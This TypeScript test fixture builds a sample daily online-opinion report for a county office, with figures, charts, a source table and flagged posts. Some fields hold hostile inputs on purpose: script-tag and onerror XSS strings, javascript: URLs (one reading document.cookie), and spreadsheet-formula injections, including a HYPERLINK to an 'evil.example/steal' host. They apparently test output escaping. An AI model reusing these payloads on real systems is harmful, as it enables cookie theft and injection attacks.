// A realistic 每日网络动态 as a generator would freeze it: figures, two charts, a linked table, cited
// items (two with hostile titles from the internet) and a sentence with citations.
import type { ReportContent } from "../../../shared/report-types";

/** The public URL the fixture's links are made absolute with. */
export const BASE_URL = "https://tingfeng.example.gov.cn";

/** Titles collected from the internet that must stay inert text in every format. */
export const HOSTILE = {
  script: "<script>alert(1)</script>禾溪镇通报",
  formula: '=HYPERLINK("http://evil.example/steal","点击查看")',
  minus: "-2+3 县城积水调查",
};

/** The fixture report (issued, numbered, red header). */
export function dailyReport(): ReportContent {
  return {
    kind: "daily",
    title: "每日网络动态",
    issuingUnit: "青禾县委网信办",
    redHeader: true,
    number: "2026年第128期",
    period: { from: "2026-07-01", to: "2026-07-01", label: "2026年7月1日" },
    eventId: null,
    generatedAt: "2026-07-02T00:05:00.000Z",
    issuedBy: "王主任",
    issuedAt: "2026-07-02 08:30",
    sections: [
      {
        key: "overview", title: "总体情况",
        text: "7月1日，共监测到涉我县网络信息1,284条，较前一日上升12.6%。\n其中负面信息57条，主要集中在教育收费和城区积水问题。",
        blocks: [
          { type: "figures", figures: [
            { key: "total", label: "信息总量", value: 1284, unit: "条", href: "/items?from=2026-07-01&to=2026-07-01", note: "按发布时间计；转载合并前" },
            { key: "neg", label: "负面信息", value: 57, unit: "条", href: "/items?from=2026-07-01&to=2026-07-01&sentiment=neg" },
            { key: "change", label: "环比", value: 12.6, unit: "%" },
          ] },
          { type: "sentence", text: "禾溪镇小学收费问题在本地论坛持续发酵，家长集中反映补课费。", citations: [
            { label: "禾溪镇小学乱收费", href: "/items/101" },
            { label: "家长再曝补课费", href: "/items/102" },
          ] },
        ],
      },
      {
        key: "trend", title: "信息走势",
        text: "信息量在上午9时至11时达到峰值。",
        blocks: [{ type: "chart", chart: {
          kind: "line", title: "7月1日信息走势（按小时）",
          labels: ["0时", "3时", "6时", "9时", "12时", "15时", "18时", "21时"],
          series: [{ name: "信息量", data: [20, 8, 35, 260, 310, 240, 230, 181] }, { name: "负面", data: [1, 0, 2, 14, 16, 10, 9, 5] }],
          href: "/items?from=2026-07-01&to=2026-07-01",
        } }],
      },
      {
        key: "sentiment", title: "情感分布",
        text: "",
        blocks: [{ type: "chart", chart: {
          kind: "pie", title: "情感分布", labels: ["负面", "中性", "正面"], series: [{ name: "条数", data: [57, 1040, 187] }],
        } }],
      },
      {
        key: "sources", title: "来源分布",
        text: "本地论坛和微信公众号是主要来源。",
        blocks: [{ type: "table", title: "主要来源", columns: ["来源", "信息量", "负面"], rows: [
          [{ text: "青禾论坛", href: "/items?source=3" }, { text: "412" }, { text: "31", href: "/items?source=3&sentiment=neg" }],
          [{ text: "禾溪发布（微信）", href: "/items?source=7" }, { text: "288" }, { text: "4" }],
          [{ text: "恶意链接", href: "javascript:alert(1)" }, { text: "1" }, { text: "=1+2" }],
        ] }],
      },
      {
        key: "negative", title: "需关注的负面信息",
        text: "以下信息需相关单位关注。",
        blocks: [{ type: "items", items: [
          { id: 101, title: "禾溪镇小学乱收费", source: "青禾论坛", publishedAt: "2026-07-01 09:30", url: "http://bbs.qinghe.example/t/101",
            sentiment: "neg", reposts: 12, excerpt: "家长反映每学期额外收取补课费八百元。", href: "/items/101" },
          { id: 102, title: HOSTILE.script, source: "某自媒体", publishedAt: null, url: "javascript:alert(document.cookie)",
            sentiment: "neg", reposts: 0, excerpt: "<img src=x onerror=alert(2)>", href: "/items/102" },
          { id: 103, title: HOSTILE.formula, source: "微博", publishedAt: "2026-07-01 14:05", url: "https://weibo.example/p/103",
            sentiment: "neg", reposts: 3, excerpt: "城区多处积水。", href: "/items/103" },
          { id: 104, title: HOSTILE.minus, source: "抖音", publishedAt: "2026-07-01 20:11", url: null,
            sentiment: "neu", reposts: 0, excerpt: "", href: "/items/104" },
        ] }],
      },
      {
        key: "advice", title: "研判建议",
        text: "建议县教育局尽快核实禾溪镇小学收费情况并公开回应。\n建议住建部门发布积水点位排查进展。",
        blocks: [],
      },
    ],
  };
}
